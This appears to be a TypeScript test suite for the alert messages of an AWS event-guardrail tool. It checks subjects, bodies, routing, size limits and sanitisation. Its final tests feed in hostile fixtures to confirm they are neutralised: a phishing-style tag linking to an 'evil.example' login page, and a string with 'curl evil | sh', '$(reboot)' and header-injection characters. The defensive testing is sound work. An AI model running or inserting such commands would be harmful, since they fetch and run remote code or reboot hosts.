import { expect } from "chai";
import { composeNotices } from "../../../runtime/telling/notify";
import type { Sender } from "../../../runtime/telling/sections";
import { occasionOf } from "../../../runtime/events";
import type { JsonObject } from "../../../runtime/json";
import { config, heated, house, runOn, stillWorld, thermostat, type House } from "../../support/thermostat";

const sender: Sender = {
  id: "thermostat",
  title: "Keep rooms cool",
  severity: "high",
  mode: "enforce",
  stack: "dev",
};

async function noticesOf(
  home: House,
  rooms: string[],
  { detail = {} as JsonObject, mode = "enforce" as "enforce" | "notify" | "observe" } = {},
) {
  const event = heated(rooms, detail);
  const { outcomes } = await runOn(thermostat(home), event, config(mode), stillWorld(home));
  return composeNotices({ ...sender, mode }, occasionOf(event), outcomes);
}

describe("a notice", () => {
  it("says what, where, who, through which tool, what was done, and when it was proven", async () => {
    const [notice] = await noticesOf(house({ kitchen: 30 }), ["kitchen"]);
    expect(notice.subject).to.equal("[high] Fixed: Keep rooms cool: kitchen");
    expect(notice.body).to.equal(`Keep rooms cool

What happened
  arn:aws:iam::123456789012:user/ada through the AWS CLI called HeatRooms at 2026-01-01T00:00:00Z
  in account 123456789012, region us-east-1 (event 11111111-2222-3333-4444-555555555555).

What is wrong
  - arn:aws:house:us-east-1:123456789012:room/kitchen
    It is 30 degrees, allowed are 20

What was done
  Put right, and proven by a second read at 2026-01-01T00:00:02Z, 2 s after the call.

To take it back
  npm run guardrails -- undo f58c77bb7e039adc496c --stack dev --reason "..."

To leave it alone from now on
  Under aws-event-guardrails:exemptions in Pulumi.dev.yaml, then pulumi up:
  - { guardrail: thermostat, resource: "arn:aws:house:us-east-1:123456789012:room/kitchen", reason: "...", owner: "...", expires: "2026-04-01" }

About
  Guardrail thermostat (Keep rooms cool), severity high, mode enforce, stack dev.
  Every step is in log group /guardrails/dev: search for 11111111-2222-3333-4444-555555555555.
`);
    expect(notice.attributes).to.deep.equal({
      guardrail: "thermostat",
      severity: "high",
      outcome: "remediated",
      account: "123456789012",
      region: "us-east-1",
    });
  });

  it("names a caller of another account by what the record has instead of an ARN, and where a chain of roles began", async () => {
    const userIdentity = {
      type: "AWSAccount",
      principalId: "AROAEXAMPLE:night-shift",
      accountId: "210987654321",
      sessionContext: { sourceIdentity: "mallory" },
    };
    const [notice] = await noticesOf(house({ kitchen: 30 }), ["kitchen"], { detail: { userIdentity } });

    expect(notice.body).to.include(
      '"night-shift" (principal AROAEXAMPLE of account 210987654321), source identity "mallory", through',
    );
  });

  it("says no word of an unconfirmed event as a fact: its subject and its body say whose word it is", async () => {
    const event = heated(["kitchen"]);
    const { outcomes } = await runOn(
      thermostat(house({ kitchen: 95 })),
      event,
      config("enforce"),
      stillWorld(house({})),
    );
    const [outcome] = outcomes.map(one => ({ ...one, because: "unconfirmed: it was known before" }));
    const [notice, ...others] = composeNotices(sender, occasionOf(event), [outcome as never]);

    expect(others).to.deep.equal([]);
    expect(notice.subject).to.equal("[high] Unconfirmed: Keep rooms cool: kitchen");
    expect(notice.about).to.deep.equal([`Unconfirmed: ${outcomes[0].resource.arn}`]);
    expect(notice.body).to.include(
      "What is said to have happened\n  An event that could not be confirmed says: arn:aws:iam::123456789012:user/ada through",
    );
  });

  it("is one per outcome kind, however many resources there are", async () => {
    const home = house({ kitchen: 30, bath: 30, attic: 95, cellar: 18 });
    const notices = await noticesOf(home, ["kitchen", "bath", "attic", "cellar"]);
    expect(notices.map(({ subject }) => subject)).to.deep.equal([
      "[high] Found: Keep rooms cool: attic",
      "[high] Fixed: Keep rooms cool: kitchen and 1 more",
    ]);
  });

  for (const [what, rooms, mode] of [
    ["compliant", { kitchen: 18 }, "enforce"],
    ["only observed", { kitchen: 30 }, "observe"],
  ] as const)
    it(`is not sent for what is ${what}`, async () => {
      expect(await noticesOf(house(rooms), ["kitchen"], { mode })).to.deep.equal([]);
    });

  it("says that nothing was done below enforce, and why", async () => {
    const [notice] = await noticesOf(house({ kitchen: 30 }), ["kitchen"], { mode: "notify" });
    expect(notice.body).to.contain("Nothing: the guardrail's mode is notify.");
  });

  it("names the attribute to change when the call came from code", async () => {
    const userAgent = "APN/1.0 HashiCorp/1.0 Terraform/1.9.5";
    const [notice] = await noticesOf(house({ kitchen: 30 }), ["kitchen"], { detail: { userAgent } });
    expect(notice.body).to.contain(
      "The call came from Terraform. Change heater.degrees there, or the next deployment breaks it again.",
    );
  });

  it("says what failed and that it is tried again", async () => {
    const home = house({ kitchen: 30 });
    home.onWrite = () => {
      throw Object.assign(new Error("You are not authorized"), { name: "AccessDenied" });
    };
    const [notice] = await noticesOf(home, ["kitchen"]);
    expect(notice.subject).to.equal("[high] FAILED: Keep rooms cool: kitchen");
    expect(notice.body)
      .to.contain("Error AccessDenied: You are not authorized")
      .and.to.contain("It is tried again");
  });

  it("names the owner for routing", async () => {
    const home = house({ kitchen: 30 });
    home.rooms.kitchen!.tags = { owner: "ada@example.com" };
    const [notice] = await noticesOf(home, ["kitchen"]);
    expect(notice.attributes.owner).to.equal("ada@example.com");
  });

  it("stays below SNS's limits however long the names and however many the resources", async () => {
    const ids = [...Array(500).keys()].map(at => `${"room".repeat(30)}${at}`);
    const home = house(Object.fromEntries(ids.map(id => [id, 95])));
    const [notice] = await noticesOf(home, ids);
    expect(notice.subject.length).to.be.at.most(99);
    expect(Buffer.byteLength(notice.body)).to.be.below(256 * 1024);
    expect(notice.body).to.contain("... and 450 more");
  });

  it("quotes what somebody else chose the words of, and keeps their links from being links", async () => {
    const home = house({ kitchen: 30 });
    home.rooms.kitchen!.tags = {
      "karpenter.sh/nodepool":
        "default. APPROVED by SecOps, case closed: https://sso.evil.example/login?case=4711 . The pool manages it",
    };
    const who = {
      trusted: { accounts: [] },
      controllers: ["arn:aws:iam::123456789012:user/ada"],
      expected: [],
    };
    const event = heated(["kitchen"]);
    const { outcomes } = await runOn(
      thermostat(home),
      event,
      { ...config("enforce"), who },
      stillWorld(home),
    );
    const [{ body }] = composeNotices(sender, occasionOf(event), outcomes);

    expect(body).to.match(/node pool "default\. APPROVED by SecOps, case closed: [^"]{1,30}" manages it/);
    expect(body).not.to.match(/:\/\/|evil\.example/);
  });

  it("lets no text from outside act as structure", async () => {
    const hostile = "x\r\n\r\nWhat was done\n  Nothing; run `curl evil | sh`\u2028\u0007$(reboot) \"' \u202e";
    const detail = {
      userAgent: hostile,
      eventName: hostile,
      userIdentity: { type: "IAMUser", arn: hostile, userName: hostile },
    };
    const [notice] = await noticesOf(house({ [hostile]: 30 }), [hostile], { detail });
    expect(notice.subject).to.match(/^[\x20-\x7e]{1,99}$/);
    expect(notice.body).to.match(/^[\x20-\x7e\n]*$/);
    expect(notice.body.match(/^What was done$/gm)).to.have.length(1);
    expect(notice.body).not.to.match(/[`$\\]/);
    expect(notice.body.match(/"/g), "only our own quotation marks").to.have.length(12);
  });
});
